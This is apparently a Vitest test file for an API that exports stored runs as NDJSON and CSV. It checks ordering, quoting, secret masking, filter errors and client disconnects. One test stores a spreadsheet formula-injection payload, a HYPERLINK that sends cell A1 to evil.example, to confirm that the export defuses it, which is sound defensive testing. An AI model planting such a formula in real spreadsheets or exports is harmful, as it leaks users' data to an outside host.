import { afterAll, beforeAll, expect, test } from 'vitest';
import { startTestApp, type TestApp } from '../../support/app.ts';
import { register } from '../../support/catalogue.ts';
import { insertRuns, runIdAt, type StoredRun, storedRun } from '../../support/runs.ts';

let app: TestApp;
let componentId: string;
let componentVersionId: string;
beforeAll(async () => {
  app = await startTestApp();
  componentId = await register(app, { key: 'exported' });
  const { component } = await app.query('{ component(key: "exported") { versions { nodes { id } } } }');
  componentVersionId = component.versions.nodes[0].id;
});
afterAll(() => app.stop());

const get = (path: string, where?: object, more = '') => {
  const query = where ? `?where=${encodeURIComponent(JSON.stringify(where))}${more}` : '';
  return fetch(new URL(`/export/${path}${query}`, app.url));
};

const START = Date.UTC(2026, 0, 1);
const store = async (count: number, given: Partial<StoredRun>) => {
  const runs = Array.from({ length: count }, (_, n) =>
    storedRun({ componentId, componentVersionId, ...given, id: runIdAt(START + n) }),
  );
  await insertRuns(app.db.pool, runs);
  return runs.map(({ id }) => id).reverse();
};

test('NDJSON has each run of the filter once, newest first, over many pages', async () => {
  const ids = await store(350, { channel: 'many' });
  await store(3, { channel: 'other' });
  const response = await get('runs.ndjson', { channel: ['many'] });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toContain('application/x-ndjson');
  expect(response.headers.get('content-disposition')).toBe('attachment');
  const lines = (await response.text()).trimEnd().split('\n');
  const runs = lines.map((line) => JSON.parse(line));
  expect(runs.map(({ id }) => id)).toEqual(ids);
  expect(runs[0]).toMatchObject({ status: 'QUEUED', component: { key: 'exported' }, channel: 'many' });
  expect(runs[0]).not.toHaveProperty('inputPayload');
});

test('a CSV cell is no formula, and quotes what RFC 4180 wants quoted', async () => {
  const formula = '=HYPERLINK("https://evil.example?x="&A1,"click")';
  await store(1, { channel: 'formulas', idempotencyKey: formula });
  const plain = '+1, "two"\nlines';
  await store(1, { channel: 'formulas', idempotencyKey: plain });
  await store(1, { channel: 'formulas', idempotencyKey: 'key-1', metadata: { n: 1 } });
  const response = await get('runs.csv', { channel: ['formulas'] }, '&payloads=true');
  expect(response.headers.get('content-type')).toContain('text/csv');
  const text = await response.text();
  const [head] = text.split('\r\n');
  expect(head).toMatch(
    /^id,status,component\.key,componentVersion\.version,.*error\.code,error\.message.*,metadata,/,
  );
  expect(text).toContain(`"'=HYPERLINK(""https://evil.example?x=""&A1,""click"")"`);
  expect(text).toContain(`"'+1, ""two""\nlines"`);
  expect(text).toContain(',key-1,');
  expect(text).toContain('"{""n"":1}"');
});

test('secrets are masked as in the API', async () => {
  const secret = 'hunter2hunter2hunter2';
  await store(1, {
    channel: 'secrets',
    inputPayload: { token: secret },
    bindingSnapshot: [{ kind: 'static', inputKey: 'token', value: secret, required: true, secret: true }],
  });
  for (const path of ['runs.ndjson', 'runs.csv']) {
    const text = await (await get(path, { channel: ['secrets'] }, '&payloads=true')).text();
    expect(text).toContain('secrets');
    expect(text).not.toContain(secret);
  }
});

test('a wrong filter is an error before anything is sent', async () => {
  const wrong = await get('runs.csv', { chanel: ['x'] });
  expect([wrong.status, await wrong.json()]).toEqual([400, { error: expect.stringContaining('chanel') }]);
  const text = await fetch(new URL('/export/runs.csv?where={', app.url));
  expect([text.status, await text.json()]).toEqual([400, { error: expect.stringMatching(/^where must be/) }]);
  const none = await get('runs.csv', { channel: ['nobody'] });
  expect((await none.text()).split('\r\n')).toHaveLength(2);
});

test('a client that leaves ends its export, and HEAD gets the head alone', async () => {
  await store(1_000, { channel: 'left' });
  for (let n = 0; n < 8; n += 1) {
    const response = await get('runs.ndjson', { channel: ['left'] });
    await response.body!.cancel();
  }
  const head = await fetch(new URL('/export/runs.csv', app.url), { method: 'HEAD' });
  expect([head.status, await head.text()]).toEqual([200, '']);
  await expect.poll(async () => (await get('runs.ndjson', { channel: ['nobody'] })).status).toBe(200);
});
